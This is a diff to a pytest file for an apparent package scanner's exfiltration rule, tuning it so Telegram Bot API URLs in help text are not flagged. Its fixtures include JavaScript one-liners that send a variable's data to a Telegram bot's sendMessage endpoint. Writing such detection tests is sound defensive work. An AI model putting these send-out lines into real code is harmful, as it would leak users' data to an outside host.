@@ -52,6 +52,23 @@ def test_other_bot_api_reads_are_no_collection_point(tmp_path: Path, method: str
     assert "GH-EXFIL-WEBHOOK" not in _found(_package(tmp_path, code, install=True))
 
 
+_HINT = """async function noteUserIdHelp(prompter) {
+  await prompter.note([
+    "1) DM your bot, then read from.id in the logs",
+    "2) Or call https://api.telegram.org/bot<bot_token>/getUpdates and read message.from.id",
+  ].join("\\n"), "Telegram user id");
+}
+"""
+
+
+def test_a_bot_api_read_in_help_text_is_no_collection_point(tmp_path: Path) -> None:
+    """openclaw@2026.2.22-1 ``dist/plugin-sdk/index.js`` again: once its client's ``getChat`` was
+    no destination, its help line "Or call https://api.telegram.org/bot<bot_token>/getUpdates"
+    (a placeholder for the token) read GH-EXFIL-WEBHOOK high in the same file."""
+    code = _GATEWAY.replace("module.exports", _HINT + "module.exports")
+    assert "GH-EXFIL-WEBHOOK" not in _found(_package(tmp_path, code))
+
+
 @pytest.mark.parametrize(
     "send",
     [
@@ -61,6 +78,7 @@ def test_other_bot_api_reads_are_no_collection_point(tmp_path: Path, method: str
         "https.get('https://api.telegram.org/bot123456:AAbc-d_e/sendMessage?text=' + d);",
         # the method put together at run time: not known to be a read
         "fetch('https://api.telegram.org/bot' + T + '/' + method, { body: d });",
+        "const help = 'call https://api.telegram.org/bot<bot_token>/sendMessage?text=hi';",
         "fetch(`https://api.telegram.org/bot${T}/${method}`, { body: d });",
         # a read's URL hidden in an encoded literal
         "fetch(atob('"
